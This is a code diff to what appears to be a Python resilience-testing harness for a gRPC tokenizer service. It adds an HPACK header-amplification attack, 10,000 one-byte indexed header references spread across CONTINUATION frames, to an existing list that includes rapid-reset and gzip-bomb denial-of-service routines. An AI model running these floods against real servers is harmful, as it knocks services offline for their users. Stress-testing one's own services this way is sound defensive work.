@@ -18,7 +18,7 @@ from typing import Final
 from bytepair.v1 import tokenizer_pb2
 
 PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-DATA, HEADERS, RST_STREAM, SETTINGS, PING = 0, 1, 3, 4, 6
+DATA, HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9
 END_STREAM, ACK, END_HEADERS = 1, 1, 4
 INITIAL_WINDOW_SIZE = 4
 CANCEL = 8
@@ -93,6 +93,18 @@ def connection(address: str, *, hello: bytes | None = None) -> Iterator[socket.s
     with socket.create_connection((host, int(port)), timeout=5) as link:
         link.sendall(PREFACE + frame(SETTINGS, 0, 0) if hello is None else hello)
         yield link
+
+
+def swollen_headers(rpc: str, fields: int) -> bytes:
+    """The frames of a call's headers with so many more fields, each of one byte: a reference to
+    what was said before (RFC 7541, section 6.1)."""
+    said = headers(rpc) + b"\x40\x01x\x01y" + b"\xbe" * fields
+    parts = [said[start : start + 16_000] for start in range(0, len(said), 16_000)]
+    kinds = [HEADERS] + [CONTINUATION] * (len(parts) - 1)
+    flags = [0] * (len(parts) - 1) + [END_HEADERS]
+    return b"".join(
+        frame(kind, flag, 1, part) for kind, flag, part in zip(kinds, flags, parts, strict=True)
+    )
 
 
 def _drain(link: socket.socket) -> None:
@@ -220,6 +232,21 @@ def bombing(address: str, going: Going) -> int:
     return sent
 
 
+def swelling(address: str, going: Going) -> int:
+    """Sends 10 KB of headers that stand for 340 KB, and never acknowledges that this is too much:
+    to such a client gRPC applies no limit of the server's, but one of 16 MiB."""
+    call = swollen_headers("Count", 10_000) + frame(DATA, END_STREAM, 1, message(count()))
+    sent = 0
+    while going():
+        with suppress(OSError), connection(address) as link:
+            link.sendall(call)
+            sent += 1
+            link.settimeout(1)
+            while b"grpc-status" not in (got := link.recv(1 << 16)) and got:
+                pass
+    return sent
+
+
 def _one_call(body: bytes) -> Callable[[str, Going], int]:
     """Sends calls with this for a message, each on a connection of its own."""
 
@@ -289,6 +316,7 @@ ATTACKS: Final[dict[str, Callable[[str, Going], int]]] = {
     "500 large answers never read": never_reading,
     "streams opened and reset (rapid reset)": resetting,
     "gzip bombs of 64 MiB": bombing,
+    "10,000 headers in 10 KB": swelling,
     "wrong lengths": lying_about_lengths,
     "random frames": babbling,
     "invalid protobuf": not_protobuf,
